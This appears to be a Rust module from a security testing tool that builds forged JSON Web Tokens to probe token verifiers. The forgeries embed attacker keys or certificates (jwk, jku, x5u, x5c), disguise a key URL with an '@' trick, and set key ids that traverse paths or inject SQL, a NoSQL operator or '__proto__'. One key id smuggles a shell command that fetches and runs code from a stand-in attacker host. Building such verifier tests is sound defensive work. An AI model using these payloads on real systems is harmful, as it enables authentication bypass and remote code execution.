//! Forgeries that bring a key along, say where one lies, or name one in a way that reaches something else.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::certificate::self_signed;
use super::{Draft, EMPTY_FILE, Forged, Forgery, Known};
use crate::identity::{Claims, Issuer};

const BROUGHT: Known = Known::critical(345, "9.1.3");
const NAMED: Known = Known::critical(22, "9.1.3");
const INJECTED: Known = Known::critical(89, "9.1.3");
const ODD: Known = Known::low(20, "9.1.3");
/// The secret that an injected query gives in the place of a key.
const PLANTED: &str = "watertight";

pub(super) const ROWS: &[Forgery] = &[
    Forgery::new("jwk-embedded", "a key of the attacker's in the header", BROUGHT, |issuer, claims| {
        brought(issuer, claims, "jwk", issuer.keys.stranger.jwk()).by_stranger()
    }),
    Forgery::new(
        "jwk-embedded-under-known-kid",
        "a key of the attacker's in the header, under a known id",
        BROUGHT,
        |issuer, claims| {
            let mut jwk = issuer.keys.stranger.jwk();
            jwk["kid"] = issuer.keys.rsa.id.clone().into();
            Draft::of(issuer, claims).head("jwk", jwk).by_stranger()
        },
    ),
    Forgery::new(
        "jwk-embedded-without-kid",
        "a key of the attacker's in the header, under no id",
        BROUGHT,
        |issuer, claims| {
            Draft::of(issuer, claims).headless("kid").head("jwk", issuer.keys.stranger.jwk()).by_stranger()
        },
    ),
    Forgery::new("secret-embedded", "a secret of the attacker's in the header", BROUGHT, |issuer, claims| {
        let jwk = json!({ "kty": "oct", "k": URL_SAFE_NO_PAD.encode(PLANTED), "alg": "HS256" });
        Draft::of(issuer, claims).head("jwk", jwk).mac("HS256", PLANTED.as_bytes())
    }),
    Forgery::new("jku", "a URL in the header where the attacker's keys lie", BROUGHT, |issuer, claims| {
        Forged::lured(issuer, |url| brought(issuer, claims, "jku", url).signed(&issuer.keys.stranger))
    }),
    Forgery::new(
        "jku-under-known-kid",
        "a URL in the header where the attacker's keys lie, under a known id",
        BROUGHT,
        |issuer, claims| {
            Forged::lured(issuer, |url| {
                Draft::of(issuer, claims).head("jku", url).signed(&issuer.keys.stranger)
            })
        },
    ),
    Forgery::new(
        "jku-beside-the-issuer",
        "a URL that reads like the issuer's and leads elsewhere",
        BROUGHT,
        |issuer, claims| {
            Forged::lured(issuer, |url| {
                // What stands before the @ is a user's name.
                let issuers = issuer.url.split("://").nth(1).unwrap_or_default().replace(['/', ':'], "%3A");
                let url = url.replacen("://", &format!("://{issuers}@"), 1);
                brought(issuer, claims, "jku", url).signed(&issuer.keys.stranger)
            })
        },
    ),
    Forgery::new(
        "x5u",
        "a URL in the header where the attacker's certificate lies",
        BROUGHT,
        |issuer, claims| {
            Forged::lured(issuer, |url| brought(issuer, claims, "x5u", url).signed(&issuer.keys.stranger))
        },
    ),
    Forgery::new("x5c", "the attacker's own certificate in the header", BROUGHT, |issuer, claims| {
        let chain = json!([STANDARD.encode(self_signed(&issuer.keys.stranger)?)]);
        brought(issuer, claims, "x5c", chain).by_stranger()
    }),
    Forgery::new(
        "x5c-under-known-kid",
        "the attacker's own certificate in the header, under a known id",
        BROUGHT,
        |issuer, claims| {
            let chain = json!([STANDARD.encode(self_signed(&issuer.keys.stranger)?)]);
            Draft::of(issuer, claims).head("x5c", chain).by_stranger()
        },
    ),
    Forgery::new(
        "kid-of-an-empty-file",
        "a key id that is a path to an empty file",
        NAMED,
        |issuer, claims| named(issuer, claims, EMPTY_FILE).mac("HS256", b""),
    ),
    Forgery::new(
        "kid-of-a-known-file",
        "a key id that is a path to a file of known content",
        NAMED,
        |issuer, claims| named(issuer, claims, "/proc/sys/kernel/randomize_va_space").mac("HS256", b"2\n"),
    ),
    Forgery::new("kid-encoded-path", "a key id that is a path in disguise", NAMED, |issuer, claims| {
        named(issuer, claims, "..%2f..%2f..%2f..%2fdev%2fnull").mac("HS256", b"")
    }),
    Forgery::new(
        "kid-of-a-url",
        "a key id that is a URL where the attacker's keys lie",
        NAMED,
        |issuer, claims| {
            Forged::lured(issuer, |url| named(issuer, claims, url).signed(&issuer.keys.stranger))
        },
    ),
    Forgery::new(
        "kid-injects-sql",
        "a key id that a query returns as the key",
        INJECTED,
        |issuer, claims| {
            named(issuer, claims, format!("x' UNION SELECT '{PLANTED}' -- ")).mac("HS256", PLANTED.as_bytes())
        },
    ),
    Forgery::new("kid-always-true", "a key id that any row answers to", INJECTED, |issuer, claims| {
        named(issuer, claims, "' OR '1'='1").by_stranger()
    }),
    Forgery::new(
        "kid-as-query",
        "an object for a key id, which a store may take for a query",
        INJECTED,
        |issuer, claims| named(issuer, claims, json!({ "$ne": null })).by_stranger(),
    ),
    Forgery::new(
        "kid-runs-a-command",
        "a key id that a shell would run",
        Known::critical(78, "9.1.3"),
        |issuer, claims| named(issuer, claims, "key;curl http://attacker.invalid|sh").by_stranger(),
    ),
    Forgery::new("kid-as-array", "several key ids, one of them known", ODD, |issuer, claims| {
        let ids = json!([issuer.keys.rsa.id, issuer.keys.stranger.id]);
        named(issuer, claims, ids).by_stranger()
    }),
    Forgery::new("kid-as-number", "a number for a key id", ODD, |issuer, claims| {
        named(issuer, claims, 0).by_stranger()
    }),
    Forgery::new("kid-empty", "an empty key id", ODD, |issuer, claims| {
        named(issuer, claims, "").by_stranger()
    }),
    Forgery::new("kid-cut-short", "a known key id with a zero byte behind it", ODD, |issuer, claims| {
        let id = format!("{}\0", issuer.keys.rsa.id);
        named(issuer, claims, id).by_stranger()
    }),
    Forgery::new("kid-of-the-prototype", "a key id that every object has", ODD, |issuer, claims| {
        named(issuer, claims, "__proto__").mac("HS256", b"")
    }),
];

/// Under the attacker's own key id, with this in the header besides.
fn brought<'i>(issuer: &'i Issuer, claims: Claims, member: &str, value: impl Into<Value>) -> Draft<'i> {
    Draft::of(issuer, claims).head("kid", issuer.keys.stranger.id.as_str()).head(member, value)
}

fn named(issuer: &Issuer, claims: Claims, id: impl Into<Value>) -> Draft<'_> {
    Draft::of(issuer, claims).head("kid", id)
}
